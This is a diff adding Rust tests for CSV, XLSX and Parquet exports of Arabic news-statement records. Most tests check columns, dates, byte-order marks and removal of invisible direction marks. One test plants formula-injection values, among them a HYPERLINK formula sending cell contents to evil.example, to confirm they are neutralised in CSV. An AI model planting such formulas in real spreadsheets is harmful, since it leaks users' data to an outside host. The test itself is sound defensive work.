@@ -1,14 +1,17 @@
-//! CSV and Parquet: columns, types and values, read back. That CSV and Parquet say the same in the programs of others is
+//! CSV, XLSX and Parquet: columns, types and values, read back. That they say the same in the programs of others is
 //! checked by `.ci/exports`.
 
 use arrow_array::cast::AsArray;
 use arrow_array::types::{Date32Type, Int64Type, TimestampMicrosecondType};
 use arrow_array::{Array, RecordBatch};
 use bytes::Bytes;
+use calamine::{Data, Reader, Xlsx};
 use parquet::arrow::arrow_reader::{ParquetRecordBatchReader, ParquetRecordBatchReaderBuilder};
 use parquet::basic::Compression;
 use parquet::file::metadata::ParquetMetaData;
-use rawi_export::{Format, Options};
+use rawi::record::Words;
+use rawi_archive::{Entry, Statement};
+use rawi_export::{Csv, Format, Options};
 
 use crate::{docs, export, fixture};
 
@@ -85,6 +88,104 @@ fn cells_of_csv() {
     }
     let csv = String::from_utf8(export(Format::Csv, Options::default(), &fixture::entries())).unwrap();
     assert!(csv.starts_with("id,title,url,") && csv.ends_with("\r\n"));
+}
+
+/// The rows of a workbook, its header first.
+fn sheet(entries: &[Entry]) -> Vec<Vec<Data>> {
+    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(export(Format::Xlsx, Options::default(), entries))).unwrap();
+    book.worksheet_range("Sheet1").unwrap().rows().map(<[_]>::to_vec).collect()
+}
+
+#[test]
+fn cells_of_xlsx() {
+    let rows = sheet(&fixture::entries());
+    let header: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
+    assert_eq!(header, self::header());
+    let cell = |name: &str, row: usize| rows[row + 1][header.iter().position(|c| c == name).unwrap()].clone();
+    let words = |words: &str| Data::String(words.into());
+    let cases = [
+        ("statement_id", 0, words("0a11c0de00000001-27")),
+        ("url", 0, words("https://example.org/أخبار/1?lang=ar")),
+        ("content", 1, words("سنستقبل أول سفينة | قبل نهاية الشهر")),
+        ("who_identity", 8, Data::Float(2.0)),
+        ("via_identity", 8, words("11 |  | ")),
+        ("confidence", 0, Data::Float(0.875)),
+        ("confidence", 3, Data::Empty),
+        ("title", 2, words("عنوان فيه \"اقتباس\"، وفاصلة, و|خط\nوسطر ثانٍ")),
+        ("date", 2, words("أمس")),
+        ("published_on", 2, Data::Empty),
+    ];
+    for (name, row, expected) in cases {
+        assert_eq!(cell(name, row), expected, "{name} of row {row}");
+    }
+    let serial = |name: &str| if let Data::DateTime(date) = cell(name, 0) { date.as_f64() } else { panic!("{name} is no date") };
+    // Day 45415 of spreadsheets is 2024-05-03; the instant is the evening before, in UTC.
+    assert_eq!((serial("published_on"), serial("published_at")), (45_415.0, 45_414.0 + 76_800.0 / 86_400.0));
+    assert_eq!(rows.len(), 10);
+}
+
+/// Case 67, and what else spreadsheets run.
+#[test]
+fn no_cell_is_run() {
+    let mut entry = fixture::article("0a11c0de00000006", "-5 درجات");
+    entry.article.given = "=1+1".into();
+    entry.article.title = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"اضغط\")".into());
+    entry.article.url = Some("@x".into());
+    entry.article.outlet = Some("＝1".into());
+    entry.article.author = Some("\t+1".into());
+    entry.article.date = Some("-1+1".into());
+    entry.article.origin = "+a.txt".into();
+    let words = Words { content: vec!["-5 درجات".into()], ..Words::default() };
+    entry.statements = vec![Statement { id: "0a11c0de00000006-0".into(), content: vec![[0, 8]], words, ..Statement::default() }];
+    let entries = [entry];
+    let row = |options: Options| -> Vec<String> {
+        let csv = export(Format::Csv, options, &entries);
+        csv::Reader::from_reader(csv.as_slice()).records().next().unwrap().unwrap().iter().map(Into::into).collect()
+    };
+    let (safe, raw) = (row(Options::default()), row(Options { csv: Csv { raw_cells: true, ..Csv::default() }, ..Options::default() }));
+    let dangerous = ["id", "title", "url", "outlet", "author", "date", "origin", "content"];
+    for (name, (safe, raw)) in header().iter().zip(safe.iter().zip(&raw)) {
+        let expected = if dangerous.contains(&name.as_str()) { format!("'{raw}") } else { raw.clone() };
+        assert_eq!(*safe, expected, "{name}");
+        assert!(!safe.starts_with(['=', '+', '-', '@', '＝', '\t']), "{name}: {safe:?}");
+    }
+    let cells: Vec<String> = sheet(&entries)[1].iter().map(ToString::to_string).collect();
+    for name in dangerous {
+        let place = header().iter().position(|c| c == name).unwrap();
+        assert_eq!(cells[place], raw[place], "{name}");
+    }
+}
+
+#[test]
+fn csv_for_excel_begins_with_a_byte_order_mark() {
+    let options = Options { csv: Csv { bom: true, ..Csv::default() }, ..Options::default() };
+    let (with, without) = (export(Format::Csv, options, &fixture::entries()), export(Format::Csv, Options::default(), &fixture::entries()));
+    assert_eq!(with, [b"\xef\xbb\xbf".as_slice(), &without].concat());
+}
+
+/// Names and words in tables are without what nobody sees; identifiers stay as they are.
+#[test]
+fn no_direction_marks_in_tables() {
+    let mut entry = fixture::article("0a11c0de00000007", "قال\u{200f} سليم");
+    entry.article.given = "\u{200f}7".into();
+    entry.article.title = Some("\u{2067}عنوان\u{2069}".into());
+    let who = fixture::party(Some(1), "سليم\u{202c}", "\u{2067}سليم\u{2069}", Some("\u{200e}المدير"), rawi::record::Kind::Person);
+    let words = Words { content: vec!["قال\u{200f} سليم".into()], ..Words::default() };
+    let id = "0a11c0de00000007-0".to_owned();
+    entry.statements = vec![Statement { id, content: vec![[0, 9]], who: Some(who), words, ..Statement::default() }];
+    let entries = [entry];
+    let csv = export(Format::Csv, Options::default(), &entries);
+    let csv: Vec<String> = csv::Reader::from_reader(csv.as_slice()).records().next().unwrap().unwrap().iter().map(Into::into).collect();
+    let xlsx: Vec<String> = sheet(&entries)[1].iter().map(ToString::to_string).collect();
+    let parquet = open(export(Format::Parquet, Options::default(), &entries)).1.next().unwrap().unwrap();
+    for (name, expected) in
+        [("id", "\u{200f}7"), ("title", "عنوان"), ("who", "سليم"), ("who_name", "سليم"), ("role", "المدير"), ("content", "قال سليم")]
+    {
+        let place = header().iter().position(|c| c == name).unwrap();
+        let column = parquet.column(place);
+        let strings = column.as_list_opt::<i32>().map_or_else(|| column.clone(), |list| list.value(0));
+        assert_eq!([&csv[place], &xlsx[place], strings.as_string::<i32>().value(0)], [expected; 3], "{name}");
+    }
 }
 
 #[test]
